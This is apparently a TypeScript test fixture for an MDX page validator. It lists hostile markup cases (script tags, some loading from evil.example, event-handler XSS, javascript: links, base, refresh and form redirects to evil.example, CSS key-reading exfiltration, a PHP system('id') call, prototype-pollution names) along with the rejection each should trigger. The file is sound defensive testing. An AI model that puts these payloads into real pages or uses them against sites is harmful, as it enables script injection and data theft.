import { inPage, RUN, type HostileCase } from "./case.ts";

/** HTML, its event handlers, and names that a program would take for something else. */
export const markup: readonly HostileCase[] = [
  inPage("script", "unknown-tag: there is no tag <script>", `<script>${RUN}</script>`),
  inPage("script-in-capitals", "unknown-tag: there is no tag <SCRIPT>", `<SCRIPT>${RUN}</SCRIPT>`),
  inPage(
    "script-from-elsewhere",
    "unknown-tag: there is no tag <script>",
    '<script src="https://evil.example/x.js" />',
  ),
  inPage("script-over-lines", "unknown-tag: there is no tag <script>", `<script type="module">\n${RUN}\n</script>`),
  inPage("script-that-never-ends", "mdx-syntax: there is no tag <script>", `<script>${RUN}`),
  inPage("script-in-a-namespace", "unknown-tag: there is no tag <svg:script>", "<svg:script>x()</svg:script>"),
  inPage("style", "unknown-tag: there is no tag <style>", '<style>@import "https://evil.example/x.css";</style>'),
  inPage(
    "style-that-reads-keys",
    "no-code: `{…}` is code",
    "<style>input[value^=a] { background: url(//evil.example) }</style>",
  ),
  inPage(
    "frame-with-a-document",
    "unknown-tag: there is no tag <iframe>",
    '<iframe srcdoc="&lt;script&gt;x()&lt;/script&gt;" />',
  ),
  inPage("object", "unknown-tag: there is no tag <object>", '<object data="data:text/html,x" />'),
  inPage("drawing-with-a-handler", "unknown-tag: there is no tag <svg>", '<svg onload="x()" />'),
  inPage("image-with-a-handler", "unknown-tag: there is no tag <img>", '<img src="x" onerror="x()" />'),
  inPage("bold-with-a-handler", "unknown-tag: there is no tag <b>", 'He named <b onclick="x()">no</b> day.'),
  inPage("field-that-takes-the-focus", "unknown-tag: there is no tag <input>", '<input autofocus="" onfocus="x()" />'),
  inPage("link-in-html", "unknown-tag: there is no tag <a>", '<a href="javascript:x()">here</a>'),
  inPage("base-in-html", "unknown-tag: there is no tag <base>", '<base href="https://evil.example/" />'),
  inPage(
    "refresh-in-html",
    "unknown-tag: there is no tag <meta>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example" />',
  ),
  inPage("form-in-html", "unknown-tag: there is no tag <form>", '<form action="https://evil.example" />'),
  inPage("comment-in-html", "mdx-syntax: Unexpected character", `<!-- ${RUN} -->`),
  inPage("doctype", "mdx-syntax: Unexpected character", "<!DOCTYPE html>"),
  inPage("processing-instruction", "mdx-syntax: Unexpected character", '<?php system("id") ?>'),
  inPage("character-data", "mdx-syntax: Unexpected character", "<![CDATA[ x ]]>"),
  inPage(
    "handler-on-our-own-tag",
    'unknown-prop: <Cite> takes no attribute "onclick"',
    '<Cite claim="ministry-2024-01-08#no-date" onclick="x()" />',
  ),
  inPage(
    "style-on-our-own-tag",
    'unknown-prop: <Cite> takes no attribute "style"',
    '<Cite claim="ministry-2024-01-08#no-date" style="position: fixed" />',
  ),
  inPage(
    "raw-html-through-an-attribute",
    'unknown-prop: <Cite> takes no attribute "set:html"',
    '<Cite claim="ministry-2024-01-08#no-date" set:html="&lt;script&gt;" />',
  ),
  inPage(
    "raw-html-as-in-react",
    'unknown-prop: <Cite> takes no attribute "dangerouslySetInnerHTML"',
    '<Cite claim="ministry-2024-01-08#no-date" dangerouslySetInnerHTML="x" />',
  ),
  inPage(
    "hydration",
    'unknown-prop: <Cite> takes no attribute "client:load"',
    '<Cite claim="ministry-2024-01-08#no-date" client:load />',
  ),
  inPage(
    "prototype-as-an-attribute",
    'unknown-prop: <Cite> takes no attribute "__proto__"',
    '<Cite claim="ministry-2024-01-08#no-date" __proto__="x" />',
  ),
  inPage("prototype-as-a-tag", "unknown-tag: there is no tag <__proto__>", "<__proto__ />"),
  inPage("constructor-as-a-tag", "unknown-tag: there is no tag <constructor>", "<constructor />"),
  inPage("member-of-our-own-tag", "unknown-tag: there is no tag <Cite.constructor>", "<Cite.constructor />"),
  inPage("member-of-this", "unknown-tag: there is no tag <this.components>", "<this.components />"),
  inPage("page-within-itself", "unknown-tag: there is no tag <MDXContent>", "<MDXContent />"),
  inPage("fragment", "unknown-tag: there is no tag <>", "<>none</>"),
];
